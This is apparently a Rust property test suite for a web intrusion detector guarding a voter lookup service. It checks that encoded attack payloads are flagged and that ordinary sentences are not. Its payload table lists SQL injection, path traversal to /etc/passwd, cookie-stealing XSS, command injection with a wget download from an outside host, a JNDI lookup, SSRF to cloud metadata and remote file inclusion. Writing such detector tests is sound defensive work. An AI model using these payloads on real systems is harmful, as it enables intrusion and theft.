//! However often a payload is wrapped, it is the same payload; whatever quotes a sentence has, it is a sentence.

use pollwatch_intrusion::payload::{Inspector, Scratch};
use pollwatch_intrusion::{Class, Hits, RequestFields, Weight};
use proptest::prelude::*;
use proptest::test_runner::RngSeed;
use std::sync::LazyLock;

static INSPECTOR: LazyLock<Inspector> = LazyLock::new(Inspector::new);

/// One payload a class, in its plainest form.
const PAYLOADS: &[(Class, &str)] = &[
    (Class::Sqli, "1' UNION ALL SELECT NULL,login FROM users-- -"),
    (Class::Sqli, "' OR '1'='1"),
    (Class::Sqli, "1 AND (SELECT 9311 FROM (SELECT(SLEEP(5)))gWxz)"),
    (Class::Sqli, "1;WAITFOR DELAY '0:0:5'--"),
    (Class::Traversal, "../../../../etc/passwd"),
    (Class::Traversal, "..\\..\\..\\windows\\win.ini"),
    (Class::Xss, "<script>alert(document.cookie)</script>"),
    (Class::Xss, "\"><img src=x onerror=alert(1)>"),
    (Class::Rce, "127.0.0.1; cat /etc/passwd"),
    (Class::Rce, "x | wget http://203.0.113.7/a.sh"),
    (Class::Java, "${jndi:ldap://203.0.113.7/a}"),
    (Class::SsrfSsti, "{{7*7}}"),
    (Class::SsrfSsti, "http://169.254.169.254/latest/meta-data/"),
    (
        Class::Php,
        "php://filter/convert.base64-encode/resource=index.php",
    ),
    (Class::Rfi, "http://203.0.113.7/shell.txt?"),
];

/// A layer that some server undoes.
#[derive(Debug, Clone, Copy)]
enum Layer {
    /// `%XX` for every byte that is no letter or digit.
    Percent,
    /// `%XX` for every byte.
    PercentAll,
    /// `%uXXXX` for every byte that is no letter or digit.
    Wide,
    /// HTML entities, decimal.
    Entity,
    /// HTML entities, hexadecimal, with zeros before them.
    EntityHex,
}

fn wrapped(text: &str, layer: Layer) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        let is_plain = byte.is_ascii_alphanumeric();
        match layer {
            Layer::PercentAll => out.push_str(&format!("%{byte:02x}")),
            _ if is_plain => out.push(char::from(byte)),
            Layer::Percent => out.push_str(&format!("%{byte:02X}")),
            Layer::Wide => out.push_str(&format!("%u{byte:04x}")),
            Layer::Entity => out.push_str(&format!("&#{byte};")),
            Layer::EntityHex => out.push_str(&format!("&#x0000{byte:x};")),
        }
    }
    out
}

fn layer() -> impl Strategy<Value = Layer> {
    prop_oneof![
        Just(Layer::Percent),
        Just(Layer::PercentAll),
        Just(Layer::Wide),
        Just(Layer::Entity),
        Just(Layer::EntityHex),
    ]
}

/// The classes that are spoken of when `value` is sent as a parameter.
fn classes(value: &str) -> Vec<(Class, Weight, u8)> {
    let (mut scratch, mut hits) = (Scratch::default(), Hits::default());
    let target = format!("/voter/lookup?last={value}&first=ANA");
    let fields = RequestFields {
        target: target.as_bytes(),
        ..RequestFields::default()
    };
    INSPECTOR.inspect(&fields, &mut scratch, &mut hits);
    hits.0
        .iter()
        .map(|hit| (hit.class, hit.weight, hit.depth))
        .collect()
}

/// Words of a voter lookup, a search box and a complaint.
fn word() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "O'Brien",
        "D'Angelo",
        "Workers'",
        "Union",
        "select",
        "Selectman",
        "committee",
        "members",
        "Perlak",
        "Cronk",
        "Axel",
        "drop",
        "box",
        "table",
        "Rock",
        "order",
        "by",
        "mail",
        "ballot",
        "where",
        "do",
        "I",
        "vote",
        "having",
        "trouble",
        "null",
        "or",
        "and",
        "not",
        "in",
        "is",
        "like",
        "it's",
        "don't",
        "\"Bobby\"",
        "'yes'",
        "'no'",
        "(rear)",
        "(1",
        "mile)",
        "50%",
        "100%",
        "&",
        "--",
        "#4",
        "5",
        "12",
        "1/2",
        "St.",
        "Apt.",
        "<3",
        "->",
        "$5",
        "left",
        "right",
        "count",
        "first",
        "time",
        "find",
        "more",
        "sort",
        "system",
        "file",
        "include",
        "print",
        "update",
        "address",
        "set",
        "on",
        "from",
        "into",
        "values",
        "case",
        "when",
        "then",
        "end",
        "group",
        "limit",
        "union",
        "between",
        "exists",
        "sleep",
        "benchmark",
    ])
}

/// `PROPTEST_CASES` asks for more.
fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|text| text.parse().ok())
        .unwrap_or(400)
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: cases(),
        // The same cases each time: a sentence of one in a million says nothing about a change. More are asked for by hand.
        rng_seed: RngSeed::Fixed(2016),
        ..ProptestConfig::default()
    })]

    #[test]
    fn a_wrapped_payload_is_the_same_payload(which in 0..PAYLOADS.len(), layers in prop::collection::vec(layer(), 0..=2), is_upper in any::<bool>()) {
        let (class, payload) = PAYLOADS[which];
        let mut value = payload.to_owned();
        if is_upper {
            value = value.to_uppercase();
        }
        for layer in &layers {
            value = wrapped(&value, *layer);
        }
        // What an honest client does to any value.
        value = wrapped(&value, Layer::Percent);
        let said = classes(&value);
        prop_assert!(
            said.iter().any(|(found, weight, _)| *found == class && *weight == Weight::Strong),
            "{} as {} gave {:?}", payload, value, said
        );
    }

    #[test]
    fn a_sentence_is_a_sentence(words in prop::collection::vec(word(), 1..9), plus in any::<bool>()) {
        let sentence = words.join(" ");
        // Whole statements are no prose: a union's query of a value, a table that is dropped with something behind it, a dash
        // pair at the end. The words apart, and "union" beside a committee, stay.
        let lower = sentence.to_lowercase();
        prop_assume!(!lower.contains("union select") && !lower.contains("drop table ") && !lower.ends_with("--"));
        let mut value = wrapped(&sentence, Layer::Percent);
        if plus {
            value = value.replace("%20", "+");
        }
        let said = classes(&value);
        prop_assert!(said.is_empty(), "{} gave {:?}", sentence, said);
    }

    #[test]
    fn no_bytes_break_it(target in prop::collection::vec(any::<u8>(), 0..300), agent in prop::collection::vec(any::<u8>(), 0..120)) {
        let (mut scratch, mut hits) = (Scratch::default(), Hits::default());
        let fields = RequestFields { target: &target, agent: &agent, referer: &agent, cookie: &agent, method: b"GET", headers: pollwatch_intrusion::read::Headers::default() };
        INSPECTOR.inspect(&fields, &mut scratch, &mut hits);
        INSPECTOR.inspect_raw(&target, &mut scratch, &mut hits);
        // The buffers' history changes nothing.
        let mut again = Hits::default();
        INSPECTOR.inspect_raw(&target, &mut Scratch::default(), &mut again);
        prop_assert_eq!(hits, again);
    }
}
